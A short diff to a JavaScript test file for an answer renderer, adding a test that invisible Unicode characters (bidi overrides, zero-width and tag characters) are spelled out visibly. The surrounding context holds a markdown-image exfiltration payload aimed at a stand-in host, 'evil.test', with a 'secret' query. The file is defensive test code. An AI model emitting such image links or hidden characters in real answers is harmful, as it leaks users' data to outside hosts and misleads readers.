@@ -31,6 +31,12 @@ describe("an answer", () => {
     expect(fetched).not.toHaveBeenCalled();
   });
 
+  // SEC-9: what nobody sees is spelled out, in words, in links and in code.
+  it("spells out what nobody sees", () => {
+    const { container } = show("Pay \u202E4321 to **Ac\u200Bme** [a\u2066b](/deals/0199-d1) `c\u{E0041}d`");
+    expect(container.textContent).toBe("Pay ⟨U+202E⟩4321 to Ac⟨U+200B⟩me a⟨U+2066⟩b c⟨U+E0041⟩d");
+  });
+
   // SEC-7: an answer makes the browser fetch nothing from anywhere, however it is written.
   it.each([
     ["an image", "![q](https://evil.test/i?q=secret)"],
